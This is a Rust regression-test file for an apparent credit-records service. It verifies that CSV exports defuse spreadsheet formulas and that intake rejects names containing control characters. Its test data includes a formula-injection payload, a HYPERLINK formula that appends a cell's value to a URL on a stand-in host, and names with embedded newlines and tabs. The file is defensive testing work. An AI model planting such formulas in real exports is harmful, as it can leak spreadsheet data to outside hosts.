//! Findings of the security review, each proven closed over HTTP on both databases: formula injection through CSV
//! control characters in names, and the rest added beside them.

use credit_tests::{expect_json, expect_problem, on_both_backends, penalty, TestApp, LIANXI};
use credit_types::records::Record;
use credit_types::ErrorCode;
use serde_json::{json, Value};

on_both_backends!(
    r24_1_a_formula_in_a_name_or_reference_reaches_the_export_as_text,
    r24_1_names_with_control_characters_are_refused_at_intake,
);

/// A spreadsheet formula smuggled in as a subject name and a provider reference.
const FORMULA: &str = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"详情\")";

async fn r24_1_a_formula_in_a_name_or_reference_reaches_the_export_as_text(app: &TestApp) {
    let provider = app.provider("prov", LIANXI).await;
    let mut body = penalty(FORMULA, json!("shared"));
    body["provider_ref"] = json!("+SUM(1,2)");
    let record: Record = expect_json(app.post_as(&provider, "/api/v1/records", &body).await, 201).await;
    assert_eq!(record.subject.name, FORMULA, "the name is stored as given");
    let export = app.get_as(&provider, "/api/v1/records/export.csv").await;
    assert_eq!(export.status(), 200);
    let text = export.text().await.unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let row = reader.records().map(Result::unwrap).find(|r| r.get(0) == Some(record.id.as_str())).expect("the row");
    assert_eq!(row.get(1), Some(format!("'{FORMULA}").as_str()), "the name is text, not a formula");
    assert_eq!(row.get(11), Some("'+SUM(1,2)"), "so is the reference");
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "no cell starts a formula: {cell:?}");
    }

    let template = app.get_as(&provider, "/api/v1/catalog/items/ADM_PENALTY/template.csv").await;
    assert_eq!(template.status(), 200);
    let template = template.text().await.unwrap();
    for line in template.trim_start_matches('\u{feff}').lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_matches('"').starts_with(['=', '+', '-', '@']), "template cell {cell:?}");
        }
    }
}

async fn r24_1_names_with_control_characters_are_refused_at_intake(app: &TestApp) {
    let provider = app.provider("prov", LIANXI).await;
    for name in ["九江甲公司\n=1+1", "九江乙\t公司", "九江丙\r公司", "九江丁\u{7}公司"] {
        let response = app.post_as(&provider, "/api/v1/records", &penalty(name, Value::Null)).await;
        let problem = expect_problem(response, 422, ErrorCode::ValidationFailed).await;
        assert!(problem.errors.iter().any(|e| e.field == "subject.name" && e.code == "control_character"), "{name:?}");
    }
}
